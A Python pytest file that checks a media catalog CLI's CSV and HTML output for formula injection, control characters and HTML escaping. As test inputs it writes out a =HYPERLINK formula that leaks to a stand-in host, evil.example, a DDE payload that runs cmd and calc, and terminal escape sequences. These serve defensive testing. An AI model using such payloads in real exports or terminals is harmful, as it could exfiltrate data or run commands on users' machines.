"""The one CSV writer (formula cells guarded, line breaks quoted, no control characters) in
every CSV the CLI writes (export, dupes, dupes --reference), and the one HTML page (escaped,
no control characters, one Content-Security-Policy) of both HTML reports (dupes, audit), from
hostile articles on disk."""

from __future__ import annotations

import csv
import io
import re

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from media_catalog.present import CSP, csv_lines, escape, page
from media_catalog.reports import reference_csv

from .conftest import photo, write_image

PERSIAN = "عکس بازار پیش از آتش‌سوزی"  # with a zero-width non-joiner, which stays
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
# C0 controls but TAB, LF, CR; DEL; C1 controls (0x9b is CSI)
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def line(value: object) -> str:
    """The CSV line `csv_lines` writes for a one-cell row holding `value`."""
    return list(csv_lines(["c"], [{"c": value}]))[1]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", '"\'\rx"'),
        ("  =1+2", "'  =1+2"),  # spreadsheets skip leading spaces
        ("\u00a0=1+2", "'\u00a0=1+2"),
        ("\n@x", '"\'\n@x"'),
        ("\x07\x1b=1+2", "'=1+2"),  # a guard not passed by hiding behind control characters
        ("x\ry", '"x\ry"'),  # a bare CR is quoted: it never ends the row
        ('say "hi", then go', '"say ""hi"", then go"'),
        ("a=b-c", "a=b-c"),
        ("\x1b]0;title\x07\x1b[31mred\x9b0m", "]0;title[31mred0m"),
        (PERSIAN, PERSIAN),
        (-3, "-3"),  # a number is data, not a formula
        (1.5, "1.5"),
        (True, "True"),
        (None, ""),
    ],
)
def test_cell(value, written):
    assert line(value) == written + "\n"


def test_header_first_then_a_line_per_row_missing_keys_empty():
    lines = csv_lines(["a", "b"], iter([{"a": 1}, {"b": "x", "a": None}]))
    assert next(lines) == "a,b\n"  # before any row is read
    assert list(lines) == ["1,\n", ",x\n"]


ordinary = st.text(
    st.one_of(
        st.characters(exclude_categories=("Cc", "Cs")), st.sampled_from([",", '"', "\n", " "])
    )
).filter(lambda text: not re.match(r"\s*[=+\-@]", text))


@given(st.lists(st.lists(ordinary | st.integers() | st.none(), min_size=2, max_size=2)))
def test_ordinary_cells_are_written_as_the_csv_module_writes_them(rows):
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\n").writerows([["a", "b"], *rows])
    written = "".join(csv_lines(["a", "b"], ({"a": a, "b": b} for a, b in rows)))
    assert written == expected.getvalue()


def test_reference_csv_guards_every_cell():
    found = [
        {"file": "=cmd|' /C calc'!A0", "matches": [], "error": "@SUM(1)"},
        {
            "file": "+ref.jpg",
            "matches": [
                {
                    "distance": 0,
                    "dhash_distance": 2,
                    "via": "-mirror",
                    "image": {
                        "sha256": "ab" * 32,
                        "occurrences": [{"article": "=a.md", "position": 0}],
                        "files": [],
                    },
                }
            ],
        },
    ]
    rows = list(csv.reader(io.StringIO(reference_csv(found), newline="")))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "", "", "", "", "", "'@SUM(1)"]
    assert rows[2] == ["'+ref.jpg", "ab" * 32, "0", "2", "'-mirror", "'=a.md #0", ""]


ALTS = {  # alt text as written in the article: as a spreadsheet must show it
    "calm\r-2+3": "calm\r-2+3",  # the CR splits no row, so -2+3 starts none
    HYPERLINK: "'" + HYPERLINK,
    "\x07=1+2": "'=1+2",
    "\x1b[2J\x1b]0;pwned\x07wiped": "[2J]0;pwnedwiped",
    PERSIAN: PERSIAN,
}


@pytest.fixture
def hostile(cli, tmp_path):
    """Articles in three formats whose alt texts are formulas, a bare CR and terminal escapes,
    two photos each used in several articles (so that they are duplicate clusters too)."""
    site = tmp_path / "site"
    write_image(site / "a.jpg", photo(1))
    write_image(site / "b.jpg", photo(2))
    tags = "".join(
        f"<image>{'ab'[n % 2]}.jpg alt='{alt}'</image>\nparagraph {n}\n"
        for n, alt in enumerate(ALTS)
    )
    (site / "p.txt").write_bytes(tags.encode())
    record = {"text": f"<image>a.jpg alt='{HYPERLINK}'</image> and <image>b.jpg alt='\rx'</image>"}
    (site / "q.jsonl").write_bytes(orjson.dumps(record) + b"\n")
    (site / "r.md").write_bytes(b"![@SUM(1)](a.jpg)\n\n![\x1bMred\x07](b.jpg)\n")
    assert cli("scan", site, "-q").exit_code == 0
    return site


def table(text: str) -> list[dict[str, str]]:
    assert not CONTROL.search(text)  # nothing for a terminal to obey
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        assert None not in row and None not in row.values()  # every row has every column
        for cell in row.values():
            assert not re.match(r"[\t\r]|\s*[=+\-@]", cell), cell
    return rows


def test_export_csv_guards_formulas_and_keeps_each_occurrence_on_its_row(cli, hostile):
    rows = table(cli("export", "-f", "csv").stdout)
    images = orjson.loads(cli("export").stdout)["images"]
    occurrences = [o for image in images for o in image["occurrences"]]
    assert len(rows) == len(occurrences) == len(ALTS) + 4
    alts = {(r["article"].rsplit("/", 1)[1], r["position"]): r["alt"] for r in rows}
    for n, shown in enumerate(ALTS.values()):
        assert alts["p.txt", str(n)] == shown
    assert alts["q.jsonl#L1", "0"] == "'" + HYPERLINK
    assert alts["q.jsonl#L1", "1"] == "'\rx"
    assert alts["r.md", "0"] == "'@SUM(1)"
    assert alts["r.md", "1"] == "Mred"


def test_dupes_csv_guards_formulas_and_keeps_each_place_on_its_row(cli, hostile):
    rows = table(cli("dupes", "-f", "csv").stdout)
    report = orjson.loads(cli("dupes", "-f", "json").stdout)
    places = [o for c in report["clusters"] for image in c["images"] for o in image["occurrences"]]
    assert len(rows) == len(places) == len(ALTS) + 4
    assert set(ALTS.values()) | {"'@SUM(1)", "'\rx", "Mred"} == {r["alt"] for r in rows}


def test_dupes_reference_csv_quotes_and_cleans_file_names(cli, hostile, tmp_path):
    known = tmp_path / "known"
    write_image(known / "\x1b[31mred\r@SUM(1).jpg", photo(1))
    rows = table(cli("dupes", "--reference", known, "-f", "csv").stdout)
    assert [r["reference"] for r in rows] == [f"{known}/[31mred\r@SUM(1).jpg"]
    assert "p.txt #0" in rows[0]["used_at"] and "q.jsonl#L1 #0" in rows[0]["used_at"]


def test_escape_removes_control_characters_and_keeps_persian():
    assert escape("\x1b[31m<b>\x9b\x07 \"x\" & 'y'\x7f\t\n") == (
        "[31m&lt;b&gt; &quot;x&quot; &amp; &#x27;y&#x27;\t\n"
    )
    assert escape(PERSIAN) == PERSIAN


def test_page_escapes_its_title_and_carries_the_policy():
    built = page("<i>\x1bتیتر</i>", "<p>body</p>", "p{color:red}")
    tree = LexborHTMLParser(built)
    assert tree.css_first("title").text() == "<i>تیتر</i>"
    assert tree.css_first("meta[http-equiv=Content-Security-Policy]").attributes["content"] == CSP
    assert tree.css_first("style").text() == "p{color:red}"
    assert built.endswith("<body><p>body</p></body></html>\n")


@pytest.mark.parametrize("command", [["dupes", "-f", "html"], ["audit", "-f", "html"]])
def test_html_reports_share_the_policy_and_keep_no_control_character(cli, hostile, command):
    result = cli(*command)
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("<!DOCTYPE html>")
    assert not CONTROL.search(result.stdout)
    tree = LexborHTMLParser(result.stdout)
    policies = tree.css("meta[http-equiv=Content-Security-Policy]")
    assert [meta.attributes["content"] for meta in policies] == [CSP]
    assert tree.css("script") == []
    texts = {node.text() for node in tree.css("[dir=auto]")}
    # alt texts shown without their control characters; Persian, with its ZWNJ, as written
    assert {"=1+2", "[2J]0;pwnedwiped", "Mred", PERSIAN} <= texts
